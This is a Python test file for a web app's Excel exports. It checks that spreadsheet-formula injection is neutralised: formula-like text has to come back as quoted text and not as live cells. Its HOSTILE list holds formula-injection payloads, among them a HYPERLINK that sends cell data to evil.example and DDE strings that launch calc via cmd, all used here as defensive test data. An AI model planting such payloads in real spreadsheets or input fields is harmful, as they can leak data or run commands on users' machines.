"""Issue 12, item 3: no Excel export writes a live formula, whatever text people (or an import) put in.

Every export goes through app/core/excel.py (checked below); the exchange exports and their re-import
are covered by tests/exchange/test_formula_cells.py."""

from __future__ import annotations

import io
import re
from pathlib import Path

from openpyxl import load_workbook

from app.core.excel import xlsx_response
from app.extensions import db
from tenants.context import tenant_scope
from tests.factories import signed_in, user_of_role

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    '=cmd|" /C calc"!A0',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


def _cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_all_text(data: bytes, expected: list[str]) -> None:
    cells = list(_cells(data))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {c.value: c for c in cells}
    for text in (t.replace("\r", "\n") for t in expected):  # XML reads a lone CR back as LF
        assert text in shown, text
        assert shown[text].data_type == "s" and shown[text].quotePrefix, text


def test_the_one_writer_keeps_every_formula_start_as_text(app):
    with app.test_request_context():
        response = xlsx_response("x.xlsx", "Thử", ["=1+1", "Tên"], [[text, [text, "b"]] for text in HOSTILE])
    response.direct_passthrough = False  # a streamed file: read it whole here
    data = response.get_data()
    _assert_all_text(data, ["=1+1", *HOSTILE])
    assert [c.value for c in _cells(data) if c.column == 2][1:] == [f"{t}, b".replace("\r", "\n") for t in HOSTILE]


def test_every_excel_export_goes_through_the_one_writer():
    """A module that builds a workbook itself could write formulas: only the core writer and the import
    template (reference data, made text) do."""
    builders = set()
    for path in (ROOT / "app").rglob("*.py"):
        if re.search(r"\bWorkbook\(", path.read_text(encoding="utf-8")):
            builders.add(str(path.relative_to(ROOT)))
    assert builders == {"app/core/excel.py", "app/exchange/template.py"}


def test_users_and_policies_exports_write_hostile_names_as_text(app, fresh_tenant):
    from app.planning.models import Policy

    tenant_id, slug = fresh_tenant
    for index, text in enumerate(HOSTILE):
        user_of_role(app, tenant_id, "province_officer", full_name=text)
        with app.app_context(), tenant_scope(tenant_id):
            db.session.add(Policy(code=f"P{index}", title=text, act=text, summary=""))
            db.session.commit()
    _admin_id, email = user_of_role(app, tenant_id, "province_admin")
    admin = signed_in(app, slug, email)
    for url in (f"/{slug}/users/export.xlsx", f"/{slug}/policies/export.xlsx"):
        response = admin.get(url)
        assert response.status_code == 200, url
        _assert_all_text(response.data, [t.strip() if url.endswith("users/export.xlsx") else t for t in HOSTILE])
